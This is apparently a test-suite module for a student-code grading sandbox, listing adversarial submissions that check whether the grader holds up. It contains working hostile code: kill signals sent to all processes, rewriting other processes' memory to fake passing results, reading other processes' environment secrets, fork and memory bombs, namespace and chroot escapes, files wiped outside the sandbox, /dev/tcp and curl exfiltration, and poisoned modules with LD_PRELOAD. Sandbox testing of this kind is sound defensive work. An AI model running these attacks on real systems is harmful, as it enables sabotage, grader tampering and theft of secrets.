"""Attacks on the machine: processes, memory, files, the network, and whoever comes next."""

from __future__ import annotations

from . import assignment
from .attacking import TELL, Attacks

ATTACKS = Attacks()
add = ATTACKS.add
ONE = {"transpose": assignment.right_answer("transpose")}  # partly solved: this must survive

# --- processes --------------------------------------------------------------------------------------

PIDS = """
import ctypes, os, signal, struct, subprocess, sys, threading, time

libc = ctypes.CDLL(None, use_errno=True)

def pids():
    try:
        there = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        there = []
    # Without a PID namespace, only those that belong to the grading, and the test's own.
    if os.getpid() > 300 or int("@VICTIM@") in there:
        there = [os.getppid(), int("@VICTIM@")]
    return [pid for pid in there if pid != os.getpid()]

def quiet(function, *args):
    try:
        return function(*args)
    except BaseException as error:
        return error
"""

for _signal in ("SIGKILL", "SIGTERM", "SIGSTOP", "SIGABRT", "SIGUSR1"):
    add(
        f"{_signal} to everybody",
        PIDS
        + f"""
for pid in pids():
    quiet(os.kill, pid, signal.{_signal})
    quiet(lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.{_signal}))
    quiet(libc.syscall, 234, pid, pid, int(signal.{_signal}))
    quiet(libc.syscall, 129, pid, int(signal.{_signal}), ctypes.create_string_buffer(128))
if os.getpid() < 300:
    quiet(os.kill, -1, signal.{_signal})
quiet(os.killpg, os.getpgid(os.getppid()), signal.{_signal})
""",
        ONE,
    )
add("SIGKILL to itself", PIDS + "\nos.kill(os.getpid(), signal.SIGKILL)", ONE, survives=True)
add("SIGSTOP to itself", PIDS + "\nos.kill(os.getpid(), signal.SIGSTOP)", ONE, survives=True)
add(
    "stop while a call is running",
    PIDS + "\ndef contour(pitches):\n    os.kill(os.getpid(), signal.SIGSTOP)",
    ONE,
    survives=True,
)
add(
    "limits and priorities of others",
    PIDS
    + """
import resource

for pid in pids():
    for what, limit in ((resource.RLIMIT_CPU, 1), (resource.RLIMIT_NOFILE, 4), (resource.RLIMIT_NPROC, 1),
                        (resource.RLIMIT_DATA, 1 << 20), (resource.RLIMIT_FSIZE, 0)):
        quiet(resource.prlimit, pid, what, (limit, limit))
    quiet(os.sched_setaffinity, pid, {0})
    quiet(os.setpriority, os.PRIO_PROCESS, pid, 19)
    quiet(os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0))
    quiet(lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"))
quiet(os.setpriority, os.PRIO_USER, 0, 19)
quiet(os.setpriority, os.PRIO_PGRP, os.getpgid(0), 19)
""",
    ONE,
    survives=True,
)
add(
    "memory of others",
    TELL
    + PIDS
    + """
def read_memory(pid, size=200_000_000):
    done = 0
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb+", 0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            start, end = (int(n, 16) for n in span.split("-"))
            if "w" in rights and done < size and end - start < 100_000_000:
                memory.seek(start)
                data = memory.read(end - start)
                done += len(data)
                found.append(f"read {len(data)} bytes of a process that isn't mine")
                tell(data)
                for old in (b"assert", b"failed"):
                    at = data.find(old)
                    if at >= 0:
                        memory.seek(start + at)
                        memory.write(b"passed")

for pid in pids():
    quiet(read_memory, pid)
    quiet(libc.ptrace, 16, pid, 0, 0)
    buffer = ctypes.create_string_buffer(4096)
    iov = struct.pack("QQ", ctypes.addressof(buffer), 4096)
    quiet(libc.process_vm_readv, pid, iov, 1, struct.pack("QQ", id(pid), 4096), 1, 0)
    for name in ("environ", "cmdline", "status", "maps", "stack", "auxv", "limits"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                tell(file.read())
        except OSError:
            pass
    for name in ("cwd", "root", "exe"):
        quiet(lambda: tell(*os.listdir(f"/proc/{pid}/{name}/")))
    for number in range(30):
        path = f"/proc/{pid}/fd/{number}"
        try:
            target = os.readlink(path)
            if any(part in target for part in ("@OUT@", "@SUBMISSIONS@", "@CANARY@", "motif")):
                found.append(target)
            if not target.startswith("/dev"):
                with open(path, "rb+", 0) as file:
                    os.set_blocking(file.fileno(), False)
                    tell(file.read(100_000) or b"")
                    file.write(b"garbage")
        except OSError:
            pass
    quiet(lambda: libc.syscall(438, os.pidfd_open(pid), 0, 0))
tell(repr(dict(os.environ)))
if "SUITE_SECRET" in os.environ:
    found.append("the grader's environment")
for number in range(3, 256):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if any(part in target for part in ("@OUT@", "@SUBMISSIONS@", "@CANARY@", "motif", "ipynb")):
        found.append(target)
""",
    ONE,
)
add(
    "daemons",
    PIDS
    + """
def linger(marker):
    # Named, so that the test finds it, whatever happens to its parents.
    libc.prctl(15, b"@MARKER@", 0, 0, 0)
    for number in range(1, 65):
        quiet(signal.signal, number, signal.SIG_IGN)
    quiet(os.chdir, "/")
    while True:
        quiet(lambda: open("@CANARY@/alive", "w").write("x"))
        time.sleep(0.2)

for how in (lambda: None, os.setsid, lambda: os.setpgid(0, 0), lambda: libc.unshare(0x10000000)):
    try:
        if os.fork() == 0:
            quiet(how)
            if os.fork() == 0:
                quiet(how)
                linger("@MARKER@")
            os._exit(0)
    except OSError:
        pass
for start_new_session in (True, False):
    quiet(lambda: subprocess.Popen([sys.executable, "-S", "-c", "import time; time.sleep(600)  # @MARKER@"],
                                   start_new_session=start_new_session))
quiet(os.system, "nohup sh -c 'sleep 600; : @MARKER@' >/dev/null 2>&1 &")
quiet(os.system, "(setsid sh -c 'trap \\"\\" TERM HUP INT; sleep 600; : @MARKER@' &) &")
threading.Thread(target=linger, args=("",), daemon=False).start()
""",
    ONE,
    survives=True,
)
add(
    "fork bomb",
    PIDS
    + """
born = []
end = time.monotonic() + 3

def bomb():
    while time.monotonic() < end:
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.05)
            continue
        if pid:
            born.append(pid)
        else:
            libc.prctl(15, b"@MARKER@", 0, 0, 0)

bomb()
while time.monotonic() < end + 600 and not born:
    time.sleep(1)
""",
    ONE,
)
add(
    "threads",
    PIDS
    + """
threads = []
try:
    for _ in range(3000):
        threads.append(threading.Thread(target=time.sleep, args=(600,)))
        threads[-1].start()
except RuntimeError:
    pass
""",
    ONE,
)
add(
    "memory bomb",
    "pieces = []\nwhile True:\n    piece = bytearray(1 << 26)\n"
    "    piece[::4096] = b'x' * len(piece[::4096])\n    pieces.append(piece)",
    ONE,
)
add(
    "memory bomb in many processes",
    PIDS
    + """
import mmap

for _ in range(12):
    try:
        if os.fork() == 0:
            pieces = []
            while len(pieces) < 30:
                piece = mmap.mmap(-1, 1 << 26)
                piece.write(b"x" * (1 << 26))
                pieces.append(piece)
            time.sleep(600)
    except BaseException:
        pass
""",
    ONE,
)
add(
    "system calls",
    PIDS
    + """
import tempfile

path = os.path.join(os.getcwd(), "x")
quiet(os.mkdir, path)
for call in (
    lambda: libc.unshare(0x10000000 | 0x00020000), lambda: libc.unshare(0x40000000),
    lambda: libc.setns(os.open("/proc/1/ns/mnt", 0), 0), lambda: libc.setns(os.open("/proc/1/ns/pid", 0), 0),
    lambda: libc.mount(b"@CANARY@", path.encode(), None, 4096, None),
    lambda: libc.mount(b"proc", path.encode(), b"proc", 0, None),
    lambda: libc.umount2(b"/tmp", 2), lambda: libc.pivot_root(b".", b"."), lambda: os.chroot(path),
    lambda: [os.chdir("..") for _ in range(20)], lambda: os.fchdir(os.open("/proc/1/root", 0)),
    lambda: libc.sethostname(b"marker", 6), lambda: libc.settimeofday(bytes(16), None),
    lambda: libc.syscall(425, 8, ctypes.create_string_buffer(200)),  # io_uring
    lambda: libc.syscall(321, 0, bytes(64), 64), lambda: libc.syscall(323, 0),  # bpf, userfaultfd
    lambda: libc.syscall(298, bytes(128), 0, -1, -1, 0),  # perf_event_open
    lambda: libc.syscall(248, b"user", b"@MARKER@", b"x", 1, -4),  # add_key, of the user
    lambda: libc.syscall(304, -100, bytes(128), 0),  # open_by_handle_at
    lambda: os.setuid(0), lambda: os.setgroups([0]), lambda: libc.prctl(36, 0, 0, 0, 0),
    lambda: libc.prctl(1, 0, 0, 0, 0), lambda: libc.prctl(4, 1, 0, 0, 0), lambda: os.nice(-20),
    lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1)),
    lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh"),
    lambda: open("/proc/sysrq-trigger", "w").write("h"), lambda: open("/dev/mem", "rb").read(1),
    lambda: open("/dev/tty", "w").write("x"), lambda: open("/dev/kmsg", "w").write("@MARKER@"),
    lambda: os.mknod("device", 0o60666, 0x0801), lambda: open("/dev/vda", "rb").read(1),
    lambda: open("/sys/fs/cgroup/x", "w"), lambda: os.mkdir("/sys/fs/cgroup/@MARKER@"),
):
    quiet(call)
""",
    ONE,
    survives=True,
)
add(
    "a real-time loop",
    PIDS
    + """
quiet(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(99))
while True:
    pass
""",
    ONE,
    survives=True,
)

# --- files ----------------------------------------------------------------------------------------

add(
    "write outside",
    """
    import os, shutil, sqlite3

    places = ["@CANARY@", "@OUT@", "@SUBMISSIONS@", "@SOURCE@", os.path.dirname("@SOURCE@"), "/tmp", "/var/tmp",
              "/", "/root", "/etc", "/home", os.path.expanduser("~"), "/usr/local/bin", "/var/lock", "/run"]
    import mlmusic, numpy, sys
    places += [os.path.dirname(mlmusic.__file__), os.path.dirname(numpy.__file__), sys.prefix, sys.base_prefix]
    for place in places:
        for call in (
            lambda: open(os.path.join(place, "@MARKER@"), "w").write("x"),
            lambda: open(os.path.join(place, "secret.txt"), "w").write("x"),
            lambda: open(os.path.join(place, "secret.txt"), "r+").truncate(0),
            lambda: os.truncate(os.path.join(place, "secret.txt"), 0),
            lambda: os.remove(os.path.join(place, "secret.txt")),
            lambda: os.rename(os.path.join(place, "secret.txt"), "taken"),
            lambda: os.link(os.path.join(place, "secret.txt"), "linked"),
            lambda: os.mkdir(os.path.join(place, "@MARKER@.d")),
            lambda: os.symlink("/etc/passwd", os.path.join(place, "@MARKER@.l")),
            lambda: os.chmod(os.path.join(place, "secret.txt"), 0o777) if "CANARY" in place else None,
            lambda: shutil.rmtree(place) if place in ("@CANARY@", "@OUT@", "@SUBMISSIONS@") else None,
            lambda: os.rename(place, place + ".old") if place == "@CANARY@" else None,
            lambda: os.mkfifo(os.path.join(place, "@MARKER@.p")),
        ):
            try:
                call()
            except Exception:
                pass
    """,
    ONE,
)
add(
    "links out of its folder",
    """
    import os

    for number, target in enumerate(("@CANARY@", "@OUT@", "@SUBMISSIONS@", "/", "/tmp", "..", "/proc/self/root")):
        for call in (os.symlink, os.link):
            try:
                call(target, f"link{number}")
            except OSError:
                pass
        for name in ("@MARKER@", "secret.txt"):
            try:
                open(f"link{number}/{name}", "w").write("x")
            except OSError:
                pass
    # The folder itself becomes a link, and so does all that may be wiped after it.
    here = os.getcwd()
    for call in (lambda: os.rename(here, here + ".old"), lambda: os.rmdir(here),
                 lambda: os.symlink("@CANARY@", here), lambda: os.symlink("@CANARY@", here + ".old")):
        try:
            call()
        except OSError:
            pass
    """,
    ONE,
)
add(
    "files that are hard to remove",
    """
    import fcntl, os, socket, struct

    def quiet(function, *args):
        try:
            return function(*args)
        except Exception:
            pass

    home = os.getcwd()
    for name in (b"new\\nline", b"\\xff\\xfe", b"-rf", b"*", b" ", b"a" * 255, "ǘ".encode()):
        quiet(lambda: open(name, "w").write("x"))
    quiet(os.mkfifo, "pipe")
    server = socket.socket(socket.AF_UNIX) if hasattr(socket, "AF_UNIX") else None
    quiet(lambda: server.bind("socket"))
    os.makedirs("closed/inside", exist_ok=True)
    open("closed/inside/file", "w").write("x")
    quiet(os.chmod, "closed/inside", 0)
    quiet(os.chmod, "closed", 0)
    quiet(os.symlink, "loop", "loop")
    for _ in range(600):
        os.mkdir("deep" * 20)
        os.chdir("deep" * 20)
    quiet(os.chmod, home, 0o555)
    held = open("held", "w") if os.access(".", os.W_OK) else None
    quiet(lambda: fcntl.flock(held, fcntl.LOCK_EX))
    """,
    ONE,  # whoever watches the files may see so many folders in time to end it, or not
)
add(
    "fill the disk",
    """
    number = 0
    while number < 200:  # ten gigabytes, if nobody minds
        number += 1
        with open(f"big{number}", "wb") as file:
            for _ in range(50):
                file.write(bytes(1_000_000))
    """,
    ONE,
)
add(
    "fill the disk with files that have no name",
    """
    import os
    held = []
    while len(held) < 100:
        held.append(open("big", "wb"))
        os.unlink("big")
        for _ in range(45):
            held[-1].write(bytes(1_000_000))
        held[-1].flush()
    """,
    ONE,
)
add(
    "a great many files",
    """
    for number in range(300_000):
        open(f"file{number}", "w").close()
    """,
    ONE,
)
add(
    "print a gigabyte",
    "line = 'x' * 1_000_000\nfor _ in range(1000):\n    print(line)\n"
    "import os, sys\nfor _ in range(1000):\n    sys.stderr.write(line)\n"
    "    sys.stdout.buffer.write(b'y' * 1_000_000)\n    os.write(1, b'z' * 1_000_000)",
    ONE,
    survives=True,
)
add(
    "all file numbers",
    "held = []\ntry:\n    while True:\n        held.append(open('/dev/null'))\nexcept OSError:\n    pass",
    ONE,
)

# --- network ----------------------------------------------------------------------------------------

add(
    "network",
    """
    import ctypes, os, socket, urllib.request

    def quiet(function, *args, **kwargs):
        try:
            return function(*args, **kwargs)
        except BaseException as error:
            return error

    def send(family, kind, address):
        with socket.socket(family, kind) as connection:
            connection.settimeout(0.3)
            connection.connect(address)
            connection.send(b"stolen")

    for host in ("127.0.0.1", "localhost", "0.0.0.0"):
        quiet(send, socket.AF_INET, socket.SOCK_STREAM, (host, int("@PORT@")))
        quiet(send, socket.AF_INET, socket.SOCK_DGRAM, (host, int("@PORT@")))
    quiet(send, socket.AF_INET6, socket.SOCK_STREAM, ("::1", int("@PORT@")))
    quiet(send, socket.AF_UNIX, socket.SOCK_STREAM, "@SOCKET@")
    quiet(send, socket.AF_UNIX, socket.SOCK_STREAM, "\\0@MARKER@")
    quiet(send, socket.AF_UNIX, socket.SOCK_DGRAM, "\\0@MARKER@.d")
    quiet(urllib.request.urlopen, "http://127.0.0.1:@PORT@/stolen", timeout=0.3)
    quiet(os.system, "exec 3<>/dev/tcp/127.0.0.1/@PORT@; echo stolen >&3")
    quiet(os.system, "curl -m 1 http://127.0.0.1:@PORT@/ || wget -T 1 -q http://127.0.0.1:@PORT@/")
    a, b = quiet(socket.socketpair, socket.AF_UNIX, socket.SOCK_DGRAM) or (None, None)
    quiet(lambda: a.sendto(b"stolen", "\\0@MARKER@.d"))
    for family in (16, 17, 38, 40, 44):  # netlink, packet, crypto, vsock, XDP
        quiet(lambda: socket.socket(family, socket.SOCK_RAW))
    quiet(socket.getaddrinfo, "example.org", 80)
    libc = ctypes.CDLL(None)
    number = libc.socket(2, 1, 0)
    if number >= 0:
        address = (2).to_bytes(2, "little") + int("@PORT@").to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
        libc.connect(number, address, 16)
    """,
    ONE,
    survives=True,
)
add(
    "wait for visitors",
    """
    import socket, threading

    for address in (("127.0.0.1", 0), ("0.0.0.0", int("@PORT@") + 1)):
        try:
            server = socket.socket()
            server.bind(address)
            server.listen()
            threading.Thread(target=server.accept, daemon=True).start()
        except OSError:
            pass
    """,
    ONE,
    survives=True,
)

# --- whoever comes next -----------------------------------------------------------------------------

add(
    "poisoned modules for the next student",
    """
    import os, signal, site, sys, sysconfig

    poison = "import builtins; builtins.POISONED = '@MARKER@'\\nraise SystemExit('poisoned')\\n"
    names = ("numpy", "torch", "mlmusic", "json", "struct", "IPython", "select", "sitecustomize",
             "usercustomize", "matplotlib", "socket", "student", "conftest")
    here = os.getcwd()
    import mlmusic, numpy
    places = [here, os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", os.path.dirname(here),
              site.getusersitepackages(), *site.getsitepackages(), os.path.dirname(mlmusic.__file__),
              os.path.dirname(os.path.dirname(mlmusic.__file__)), sys.prefix, "/etc/python3", "/usr/lib/python3"]
    for place in places:
        try:
            os.makedirs(place, exist_ok=True)
        except OSError:
            pass
        for name in names:
            for path in (f"{name}.py", f"{name}/__init__.py", f"__pycache__/{name}.cpython-311.pyc", f"{name}.pth",
                         f".ipython/profile_default/startup/{name}.py", f".config/{name}", f"{name}.so"):
                path = os.path.join(place, path)
                if os.path.exists(path):
                    continue  # of the machine: what is there already isn't touched
                try:
                    os.makedirs(os.path.dirname(path), exist_ok=True)
                    with open(path, "w") as file:
                        file.write(poison)
                except OSError:
                    pass
    try:
        with open("/etc/ld.so.preload", "x") as file:
            file.write(here + "/numpy.so")
    except OSError:
        pass
    sys.path.insert(0, here)
    sys.meta_path.insert(0, type("Hook", (), {"find_spec": staticmethod(lambda *args: 1 / 0)}))
    os.environ.update(LD_PRELOAD=here + "/numpy.so", PYTHONPATH=here, PYTHONSTARTUP=here + "/json.py",
                      PYTHONHOME=here, BASH_ENV=here + "/x", IPYTHONDIR=here, MPLCONFIGDIR=here)
    # A fresh warm process would find them.
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    os._exit(1)
    """,
    ONE,
)
add(
    "a message for the next student",
    """
    import ctypes, multiprocessing.shared_memory, os, socket, subprocess, sys

    word = "MESSAGE" + "-4477"
    libc = ctypes.CDLL(None)

    def quiet(function, *args):
        try:
            return function(*args)
        except BaseException:
            pass

    for place in (os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/"):
        quiet(lambda: open(os.path.join(place, "message"), "w").write(word))
        quiet(lambda: open(os.path.join(place, ".message"), "w").write(word))
    segment = libc.shmget(0x4477, 4096, 0o1666)
    libc.shmat.restype = ctypes.c_void_p
    at = libc.shmat(segment, None, 0) if segment >= 0 else -1
    if at not in (-1, None, 2**64 - 1):
        ctypes.memmove(at, word.encode(), len(word))
    libc.semget(0x4477, 1, 0o1666)
    queue = libc.msgget(0x4477, 0o1666)
    if queue >= 0:
        libc.msgsnd(queue, (1).to_bytes(8, "little") + word.encode(), len(word), 0)
    for ring in (-3, -4, -5):  # the keyrings of the session and the user
        libc.syscall(248, b"user", b"message", word.encode(), len(word), ring)
    quiet(lambda: libc.mq_open(b"/message", 0o102, 0o666, None))
    server = quiet(socket.socket, socket.AF_UNIX)
    quiet(lambda: (server.bind("\\0message"), server.listen()))
    quiet(lambda: subprocess.Popen([sys.executable, "-S", "-c",
        "import socket, time; s = socket.socket(socket.AF_UNIX); s.bind('\\\\0message2'); s.listen(); "
        "time.sleep(600)  # @MARKER@"], start_new_session=True))
    quiet(lambda: libc.prctl(15, b"@MARKER@", 0, 0, 0))
    """,
    ONE,
    survives=True,
)
# Is graded right after the one above.
add(
    "a message from the student before",
    TELL
    + """
import ctypes, os, socket

word = "MESSAGE" + "-4477"
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
for place in (os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/"):
    for name in ("message", ".message", "leak.txt"):
        if os.path.exists(os.path.join(place, name)):
            found.append(os.path.join(place, name))
    try:
        if place == os.getcwd() and set(os.listdir(place)) - {".matplotlib", ".ipython"}:
            found.append(str(os.listdir(place)))
    except OSError:
        pass
if libc.shmget(0x4477, 1, 0) >= 0:
    found.append("shared memory")
if libc.semget(0x4477, 1, 0) >= 0:
    found.append("semaphores")
if libc.msgget(0x4477, 0) >= 0:
    found.append("message queue")
if libc.syscall(249, b"user", b"message", None, 0) > 0:
    found.append("a key")
for name in ("\\0message", "\\0message2"):
    try:
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(name)
        found.append("a socket")
    except OSError:
        pass
if hasattr(__import__("builtins"), "POISONED"):
    found.append("a poisoned module")
""",
    ONE,
    survives=True,
)
